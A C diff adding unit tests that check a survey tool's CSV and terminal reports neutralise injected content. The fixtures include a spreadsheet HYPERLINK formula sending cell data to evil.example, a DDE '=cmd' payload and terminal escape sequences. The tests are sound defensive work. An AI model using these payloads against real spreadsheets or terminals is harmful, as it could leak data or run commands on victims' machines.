@@ -886,6 +886,222 @@ test_html_escapes(void **state)
 	free(out);
 }
 
+/* ---- CSV cells a spreadsheet would evaluate ----------------------------- */
+
+static const char inj_xml[] =
+"<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n"
+"<survey id=\"inj\" fallback=\"en\">\n"
+" <title xml:lang=\"en\">Injection</title>\n"
+" <question id=\"say\" type=\"text\"><text xml:lang=\"en\">Say</text>"
+"</question>\n"
+" <question id=\"n\" type=\"number\"><text xml:lang=\"en\">N</text>"
+"</question>\n"
+"</survey>\n";
+
+/* One contact per row, in email order: its name, its text answer, its
+ * number answer, and the CSV row the report must write for it. */
+static const struct {
+	const char *name, *say, *n, *row;
+} inj[] = {
+	{ "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")",
+	  "=cmd|' /C calc'!A0", "-5",
+	  "i00@example.org,\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,"
+	  "\"\"Click\"\")\",Gent,BE,en,yes,yes,,'=cmd|' /C calc'!A0,-5" },
+	{ "Ann", "+1+2", "-3.5", "i01@example.org,Ann,Gent,BE,en,yes,yes,,"
+	  "'+1+2,-3.5" },
+	{ "@Bob", "-2+3", "+7", "i02@example.org,'@Bob,Gent,BE,en,yes,yes,,"
+	  "'-2+3,+7" },
+	{ "Cy", "@SUM(1;2)", "0", "i03@example.org,Cy,Gent,BE,en,yes,yes,,"
+	  "\"'@SUM(1;2)\",0" },
+	/* stored answers keep a leading TAB or CR: the guard goes first */
+	{ "Di", "\t=1+1", "-", "i04@example.org,Di,Gent,BE,en,yes,yes,,"
+	  "\"'\t=1+1\",'-" },
+	{ "Ed", "\r=1+1\r\n", "-1e3", "i05@example.org,Ed,Gent,BE,en,yes,"
+	  "yes,,\"'\r=1+1\r\n\",-1e3" },
+	{ "Fay", "plain, text", "42", "i06@example.org,Fay,Gent,BE,en,yes,"
+	  "yes,,\"plain, text\",42" },
+};
+#define NINJ (sizeof(inj) / sizeof(inj[0]))
+
+static int
+inj_fill(struct fixture *f)
+{
+	struct store_campaign c = {
+		.name = "inj-2026", .kind = "survey", .template = "survey",
+		.file = "inj.campaign", .extra = "{}",
+		.audience = { .group = "inj" },
+	};
+	struct store_outbox_filter flt = { 0, "invite" };
+	int64_t id[NINJ], cid;
+	struct deliver x = { f, 100, 0 };
+	struct err e;
+	long added, n;
+	int created;
+
+	if (store_begin(f->s, &e) < 0)
+		return -1;
+	for (size_t i = 0; i < NINJ; i++) {
+		char email[32];
+		struct store_contact k = {
+			.email = email, .name = inj[i].name,
+			.municipality = "Gent", .country = "BE",
+			.language = "en", .groups = "inj",
+		};
+
+		snprintf(email, sizeof(email), "i%02zu@example.org", i);
+		if (store_contact_upsert(f->s, &k, &id[i], &created, &e) < 0)
+			return -1;
+	}
+	if (store_commit(f->s, &e) < 0 ||
+	    campaign_put(f, inj_xml, &c, &cid) < 0 ||
+	    store_deliveries_plan(f->s, cid, "invite", &added, &e) < 0 ||
+	    added != (long)NINJ)
+		return -1;
+	/* only this campaign's rows (esc-2026's wait unsent) */
+	flt.campaign_id = cid;
+	if (store_outbox_claim(f->s, &flt, 100, 60, deliver_cb, &x, &n,
+			       &e) < 0 || n != (long)NINJ || x.rc != 0)
+		return -1;
+	for (size_t i = 0; i < NINJ; i++) {
+		char key[16];
+		const struct store_answer a[2] = {
+			{ "say", inj[i].say }, { "n", inj[i].n },
+		};
+
+		snprintf(key, sizeof(key), "inj/%zu", i);
+		if (respond_in(f, cid, id[i], "x@example.org", key, a, 2) < 0)
+			return -1;
+	}
+	return 0;
+}
+
+/* Every CSV cell a spreadsheet would evaluate (names too) starts with ',
+ * numbers stay numbers, nothing else changes. */
+static void
+test_csv_formulas(void **state)
+{
+	struct fixture *f = *state;
+	struct buf want;
+	struct err e;
+	int rc;
+	char *out;
+
+	assert_int_equal(inj_fill(f), 0);
+	buf_init(&want, 0);
+	buf_adds(&want, "email,name,municipality,country,language,delivered,"
+		 "responded,answered_by,say,n\r\n");
+	for (size_t i = 0; i < NINJ; i++)
+		buf_printf(&want, "%s\r\n", inj[i].row);
+	out = run(f, "inj-2026", REPORT_CSV, &rc, &e);
+	assert_int_equal(rc, 0);
+	assert_string_equal(out, buf_cstr(&want));
+	free(out);
+	buf_free(&want);
+}
+
+/* ---- text for a terminal ------------------------------------------------ */
+
+#define FFFD "\xef\xbf\xbd"
+
+/* Escape sequences in answers, names, municipalities and a stranger's
+ * subject: term-2026's own contacts and mail. */
+static int
+term_fill(struct fixture *f, int64_t *cid)
+{
+	static const char *const who[3][3] = {
+		{ "t1@example.org", "T1", "\x1b[31mRed" },
+		{ "t2@example.org", "T2", "Two" },
+		{ "t3@example.org", "\x1b]0;pwned\x07" "Eve\xc2\x9b" "2J",
+		  "Tab\there" },
+	};
+	const struct store_answer a[2][1] = {
+		{ { "view", "\x1b[2J\x1b[Hcleared \x9b" "1m\x7f" } },
+		{ { "view", "line one\r\n\tline two\x1b[0m" } },
+	};
+	struct store_campaign c = {
+		.name = "term-2026", .kind = "survey", .template = "survey",
+		.reference = "T\x1b[5m", .file = "term.campaign",
+		.extra = "{}", .audience = { .group = "term" },
+	};
+	struct store_inbound m = {
+		.src_key = "t/9", .from_addr = "x@example.net",
+		.subject = "\x1b[31mURGENT\x1b[0m \xc2\x9d" "8;;http://x\x07",
+		.date = "2026-11-03", .kind = STORE_I_UNREADABLE,
+		.reason = "bad \x1b answer",
+	};
+	int64_t id[3], in;
+	struct err e;
+	long added;
+	int created;
+
+	if (store_begin(f->s, &e) < 0)
+		return -1;
+	for (int i = 0; i < 3; i++) {
+		struct store_contact k = {
+			.email = who[i][0], .name = who[i][1],
+			.municipality = who[i][2], .country = "BG",
+			.language = "en", .groups = "term",
+		};
+
+		if (store_contact_upsert(f->s, &k, &id[i], &created, &e) < 0)
+			return -1;
+	}
+	if (store_commit(f->s, &e) < 0 ||
+	    campaign_put(f, esc_xml, &c, cid) < 0 ||
+	    store_deliveries_plan(f->s, *cid, "invite", &added, &e) < 0 ||
+	    added != 3)
+		return -1;
+	m.campaign_id = *cid;
+	m.contact_id = id[1];
+	if (respond_in(f, *cid, id[0], who[0][0], "t/1", a[0], 1) < 0 ||
+	    respond_in(f, *cid, id[1], who[1][0], "t/2", a[1], 1) < 0 ||
+	    store_begin(f->s, &e) < 0 ||
+	    store_inbound_add(f->s, &m, &in, &e) < 0)
+		return -1;
+	return store_commit(f->s, &e);
+}
+
+/* No ESC, BEL, DEL or C1 control reaches the terminal from a text
+ * report; each shows as U+FFFD, and a multi-line answer keeps its lines
+ * and tabs (layout), indented under the first. */
+static void
+test_text_escapes(void **state)
+{
+	struct fixture *f = *state;
+	struct err e;
+	int64_t cid;
+	int rc;
+	char *out;
+
+	assert_int_equal(term_fill(f, &cid), 0);
+	out = run(f, "term-2026", REPORT_TEXT, &rc, &e);
+	assert_int_equal(rc, 0);
+	for (const char *p = out; *p; p++) {
+		unsigned char ch = (unsigned char)*p;
+
+		if ((ch < 0x20 && ch != '\n' && ch != '\t') || ch == 0x7f)
+			fail_msg("control 0x%02x at %td: %.40s", ch, p - out,
+				 p);
+		if (ch == 0xc2 && (unsigned char)p[1] >= 0x80 &&
+		    (unsigned char)p[1] < 0xa0)
+			fail_msg("C1 control at %td", p - out);
+	}
+	assert_non_null(strstr(out, "Campaign term-2026 (survey, T" FFFD
+			       "[5m)\n"));
+	assert_non_null(strstr(out, "  [" FFFD "[31mRed] " FFFD "[2J" FFFD
+			       "[Hcleared " FFFD "1m" FFFD "\n"));
+	assert_non_null(strstr(out, "  [Two] line one\n      \tline two"
+			       FFFD "[0m\n"));
+	/* the roster: t3 has not answered; columns still line up */
+	assert_non_null(strstr(out, "  t3@example.org  " FFFD "]0;pwned"
+			       FFFD "Eve" FFFD "2J  Tab" FFFD "here  (not "
+			       "delivered)\n"));
+	assert_non_null(strstr(out, "    2026-11-03  x@example.net  \""
+			       FFFD "[31mURGENT" FFFD "[0m " FFFD "8;;http:"
+			       "//x" FFFD "\": bad " FFFD " answer\n"));
+	free(out);
+}
+
 int
 main(void)
 {
@@ -897,6 +1113,8 @@ main(void)
 		cmocka_unit_test(test_html_page),
 		cmocka_unit_test(test_html_numbers_are_json),
 		cmocka_unit_test(test_html_escapes),
+		cmocka_unit_test(test_csv_formulas),
+		cmocka_unit_test(test_text_escapes),
 	};
 
 	return cmocka_run_group_tests(tests, setup, teardown);
